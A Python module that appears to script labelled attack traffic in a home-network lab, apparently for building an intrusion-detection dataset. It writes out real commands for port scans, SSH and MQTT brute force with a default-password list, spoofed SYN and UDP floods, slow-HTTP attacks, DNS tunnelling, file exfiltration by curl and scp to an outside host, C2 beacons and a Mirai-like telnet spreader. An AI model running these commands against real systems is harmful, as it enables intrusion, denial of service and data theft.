"""The attacks: real tools with a limited load against hosts of the lab.

Per site, a list of: name, kind, host that attacks, shell command, label rows.
A label row is (source, target, source port, target port, protocol, note).
"""
import sys
from places import HOSTS, host, TUNNEL_DOMAIN
from network import HERE

PY = sys.executable
TALK = f"{PY} {HERE}/device_talk.py"


def words(folder, count):
    path = f"{folder}/passwords-{count}"
    base = ["123456", "admin", "password", "root", "12345678", "toor", "qwerty", "letmein", "raspberry",
            "changeme", "master", "welcome", "dragon", "monkey", "shadow", "abc123", "default", "guest"]
    with open(path, "w") as out:
        out.write("\n".join((base + [w + str(i) for i in range(9) for w in base])[:count]) + "\n")
    return path


def home_a(folder):
    laptop, camera = host("home-a", "laptop"), host("home-a", "camera")
    thermostat, plug = host("home-a", "thermostat"), host("home-a", "plug")
    nas, gw = host("home-a", "nas").ip, "192.168.1.1"
    log_in = f"mosquitto_pub -h {nas} -u admin -t a -m b -P"
    return [
        dict(name="syn-scan", kind="port-scan", host=laptop,
             command=f"nmap -n -Pn -sS --top-ports 600 --max-rate 150 {nas}",
             rows=[(laptop.ip, nas, "*", "*", "tcp", "nmap SYN scan, 600 ports")]),
        dict(name="udp-scan", kind="port-scan", host=laptop,
             command=f"nmap -n -Pn -sU --top-ports 60 --max-rate 20 --max-retries 1 {nas}",
             rows=[(laptop.ip, nas, "*", "*", "udp", "nmap UDP scan, 60 ports"),
                   (nas, laptop.ip, "*", "*", "icmp", "port unreachable answers to the UDP scan")]),
        dict(name="sweep", kind="horizontal-scan", host=camera,
             command="nmap -n -sn -PE --send-ip --max-rate 60 --max-retries 1 198.51.100.0/24; "
                     "nmap -n -Pn -sS -p 445,8080 --max-rate 80 --max-retries 1 203.0.113.0/25",
             rows=[(camera.ip, "198.51.100.0/24", "*", "*", "icmp", "nmap ping sweep"),
                   (camera.ip, "203.0.113.0/25", "*", "445", "tcp", "nmap horizontal scan"),
                   (camera.ip, "203.0.113.0/25", "*", "8080", "tcp", "nmap horizontal scan")]),
        dict(name="ssh-brute", kind="ssh-brute-force", host=laptop, limit=100,
             command=f"hydra -l admin -P {words(folder, 60)} -t 4 -I -f ssh://{nas}",
             rows=[(laptop.ip, nas, "*", "22", "tcp", "hydra, 60 passwords, 4 lines at once")]),
        dict(name="mqtt-brute", kind="mqtt-brute-force", host=thermostat, limit=90,
             command=f"for p in $(head -n 120 {words(folder, 120)}); do {log_in} $p; sleep 0.1; done",
             rows=[(thermostat.ip, nas, "*", "1883", "tcp", "mosquitto_pub, 120 passwords")]),
        dict(name="syn-flood", kind="syn-flood", host=plug, after=9.0,
             command=f"hping3 -q -S -p 80 --rand-source -c 1500 -i u2500 {nas}",
             rows=[("*", nas, "*", "80", "tcp", "hping3, 1500 SYN with made-up sources, about 400 a second")]),
        dict(name="spread", kind="telnet-spread", host=camera, limit=90,
             command=f"{PY} {HERE}/telnet_spread.py {camera.ip} 1100 25",
             rows=[(camera.ip, "*", "*", "23", "tcp", "Mirai-like search for telnet and logins"),
                   (camera.ip, "*", "*", "2323", "tcp", "Mirai-like search for telnet")]),
        dict(name="slow-http", kind="slow-http", host=laptop, limit=90, after=4.0,
             command=f"slowhttptest -c 70 -H -i 6 -r 10 -l 40 -u http://{nas}/ -x 12 -p 3",
             rows=[(laptop.ip, nas, "*", "80", "tcp", "slowhttptest, 70 lines held open with headers")]),
        dict(name="tunnel", kind="dns-tunnel", host=laptop, limit=60,
             command=tunnel(folder, "dnsa", 34),
             rows=[(laptop.ip, gw, "*", "53", "udp", "iodine through the home's resolver")]),
        dict(name="exfiltration", kind="data-exfiltration", host=camera, limit=60,
             command=f"for f in big3 seg3; do curl -sk -o /dev/null -T {folder}/web/$f https://203.0.113.99/up/x$f; sleep 1; done",
             rows=[(camera.ip, "203.0.113.99", "*", "443", "tcp", "1.4 MB upload to a host not seen before")]),
        dict(name="beacon", kind="c2-beacon", host=thermostat, limit=60,
             command=f"{TALK} beacon 203.0.113.77 443 40 0.8",
             rows=[(thermostat.ip, "203.0.113.77", "*", "443", "tcp", "short plain calls each 45 s on port 443")]),
    ]


def home_b(folder):
    pc, tablet = host("home-b", "pc"), host("home-b", "tablet")
    meter, recorder = host("home-b", "meter"), host("home-b", "recorder")
    printer, gw = host("home-b", "printer").ip, "10.20.0.1"
    return [
        dict(name="connect-scan", kind="port-scan", host=tablet,
             command=f"nmap -n -Pn -sT --top-ports 400 --max-rate 100 {printer}",
             rows=[(tablet.ip, printer, "*", "*", "tcp", "nmap connect scan, 400 ports")]),
        dict(name="service-scan", kind="port-scan", host=tablet, limit=100,
             command=f"nmap -n -Pn -sV --version-intensity 4 -p 22,23,80,443,515,631,5228,9100 {pc.ip}; "
                     f"nmap -n -Pn -sV --version-intensity 3 -p 80,443,5228 {printer}",
             rows=[(tablet.ip, pc.ip, "*", "*", "tcp", "nmap service scan"),
                   (tablet.ip, printer, "*", "*", "tcp", "nmap service scan")]),
        dict(name="lan-sweep", kind="horizontal-scan", host=tablet,
             command="nmap -n -Pn -sS -p 22,80 --max-rate 40 --max-retries 1 --send-ip 10.20.0.1-100; "
                     "nmap -n -sn -PE -PS443 --send-ip --max-rate 60 --max-retries 1 203.0.113.0/25",
             rows=[(tablet.ip, "10.20.0.0/25", "*", "22", "tcp", "nmap horizontal scan of the LAN"),
                   (tablet.ip, "10.20.0.0/25", "*", "80", "tcp", "nmap horizontal scan of the LAN"),
                   (tablet.ip, "203.0.113.0/25", "*", "443", "tcp", "nmap sweep, SYN probes"),
                   (tablet.ip, "203.0.113.0/25", "*", "*", "icmp", "nmap sweep, echo probes")]),
        dict(name="ssh-brute", kind="ssh-brute-force", host=recorder, limit=100,
             command=f"for p in $(head -n 45 {words(folder, 45)}); do sshpass -p $p ssh -o StrictHostKeyChecking=no "
                     "-o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no -o ConnectTimeout=4 "
                     "admin@192.0.2.22 true; sleep 0.2; done",
             rows=[(recorder.ip, "192.0.2.22", "*", "22", "tcp", "45 slow logins one after another")]),
        dict(name="udp-flood", kind="udp-flood", host=recorder,
             command="hping3 -q --udp -p 27015 -d 512 -c 1200 -i u3000 203.0.113.121",
             rows=[(recorder.ip, "203.0.113.121", "*", "27015", "udp", "hping3, 1200 datagrams, about 330 a second"),
                   ("203.0.113.121", recorder.ip, "*", "*", "icmp", "unreachable answers to the flood")]),
        dict(name="syn-flood", kind="syn-flood", host=meter, after=6.0,
             command="hping3 -q -S -p 443 --rand-source -c 1500 -i u4000 203.0.113.120",
             rows=[("*", "203.0.113.120", "*", "443", "tcp", "hping3, 1500 SYN with made-up sources, about 250 a second")]),
        dict(name="spread", kind="telnet-spread", host=recorder, limit=90,
             command=f"{PY} {HERE}/telnet_spread.py {recorder.ip} 900 15",
             rows=[(recorder.ip, "*", "*", "23", "tcp", "Mirai-like search for telnet and logins"),
                   (recorder.ip, "*", "*", "2323", "tcp", "Mirai-like search for telnet")]),
        dict(name="slow-http", kind="slow-http", host=pc, limit=90, after=4.0,
             command="slowhttptest -c 50 -B -i 5 -r 8 -l 35 -s 4096 -u http://203.0.113.120/api -x 10 -p 3",
             rows=[(pc.ip, "203.0.113.120", "*", "80", "tcp", "slowhttptest, 50 lines with slow bodies")]),
        dict(name="tunnel", kind="dns-tunnel", host=pc, limit=60,
             command=tunnel(folder, "dnsb", 26),
             rows=[(pc.ip, gw, "*", "53", "udp", "iodine through the home's resolver")]),
        dict(name="exfiltration", kind="data-exfiltration", host=pc, limit=60,
             command=f"scp -q -i {folder}/user_key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "
                     f"{folder}/web/big3 root@203.0.113.99:/dev/null",
             rows=[(pc.ip, "203.0.113.99", "*", "22", "tcp", "1.2 MB scp to a host not seen before")]),
        dict(name="beacon", kind="c2-beacon", host=meter, limit=60,
             command=f"{TALK} beacon 203.0.113.77 8080 30 0.8",
             rows=[(meter.ip, "203.0.113.77", "*", "8080", "tcp", "calls each 60 s to a closed port, a dead control server")]),
    ]


def tunnel(folder, device, seconds):
    """iodine to the lab's own iodined, then a ping and two page loads inside the tunnel."""
    return (f"timeout {seconds} iodine -f -r -P tunnelpass -d {device} {TUNNEL_DOMAIN} >/tmp/{device}.log 2>&1 & "
            f"sleep 12; ping -c 6 -i 0.5 -W 2 100.64.99.1; curl -s -m 10 -o /dev/null http://100.64.99.1/o3; "
            f"curl -s -m 6 -o /dev/null http://100.64.99.1/o5; wait")


def plan(site, folder):
    return home_a(folder) if site == "home-a" else home_b(folder)
